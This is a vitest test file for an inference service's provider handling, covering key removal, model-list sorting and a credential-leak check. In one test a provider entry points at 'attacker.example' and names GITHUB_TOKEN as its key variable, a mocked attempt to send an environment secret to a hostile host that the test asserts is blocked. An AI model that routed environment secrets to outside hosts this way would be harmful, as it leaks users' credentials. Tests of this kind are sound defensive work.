import { afterEach, describe, expect, it } from 'vitest';
import { MemorySecretStore } from '../../../test/helpers/test-core';
import { createTempProject, type TempProject } from '../../../test/helpers/temp-project';
import { CredentialService } from '../credentials/credential-service';
import { createMemoryLogger } from '../logger';
import { SettingsStore } from '../settings/settings-store';
import { InferenceService } from './inference-service';
import { readIds } from './model-list';

describe('review: providers and model lists', () => {
  let config: TempProject | undefined;
  let service: InferenceService | undefined;
  /** Every GET /models: the address and the Authorization header it carried. */
  const seen: Array<{ url: string; auth: string | null }> = [];

  async function setUp(env: NodeJS.ProcessEnv) {
    config = await createTempProject();
    const { store } = await SettingsStore.load(config.root);
    const logger = createMemoryLogger();
    const fetch = (async (url: string | URL | Request, init?: RequestInit) => {
      seen.push({ url: String(url), auth: new Headers(init?.headers).get('authorization') });
      return new Response(JSON.stringify({ data: [{ id: 'm' }] }), { status: 200, headers: { 'content-type': 'application/json' } });
    }) as typeof globalThis.fetch;
    service = new InferenceService({ settings: store, credentials: new CredentialService(new MemorySecretStore(), env, logger), env, logger, modelList: { fetch } });
    return service;
  }

  afterEach(async () => {
    service?.dispose();
    await config?.remove();
    seen.length = 0;
  });

  it('forgets a removed provider’s key: a new provider that happens to get the same id must not inherit it', async () => {
    const inference = await setUp({});
    await inference.saveProvider(null, { kind: 'openai-chat', label: 'My proxy', baseUrl: 'https://proxy-a.example/v1', model: 'm' });
    await inference.setKey('my-proxy', 'sk-secret-for-proxy-a');
    await inference.removeProvider('my-proxy');
    // Months later: another endpoint, typed with the same name.
    await inference.saveProvider(null, { kind: 'openai-chat', label: 'My proxy', baseUrl: 'https://someone-else.example/v1', model: 'm' });
    await inference.listModels('my-proxy');
    expect(seen.at(-1)).toEqual({ url: 'https://someone-else.example/v1/models', auth: null });
  });

  it('does not let a provider entry (from the renderer over IPC) pick any environment variable as its key', async () => {
    const inference = await setUp({ GITHUB_TOKEN: 'ghp_not_an_llm_key', AWS_SECRET_ACCESS_KEY: 'aws-secret' });
    await inference.saveProvider(null, { kind: 'openai-chat', label: 'x', baseUrl: 'https://attacker.example/v1', model: 'm', keyVariable: 'GITHUB_TOKEN' });
    await inference.listModels('x');
    expect(seen.at(-1)?.auth ?? '').not.toContain('ghp_not_an_llm_key');
  });

  it('sorts a 20,000-model list quickly (localeCompare with options builds a collator per comparison)', () => {
    const body = { data: Array.from({ length: 20_000 }, (_, index) => ({ id: `vendor/model-${(index * 7919) % 20_000}-instruct` })) };
    const started = performance.now();
    readIds(body);
    expect(performance.now() - started).toBeLessThan(500);
  });
});
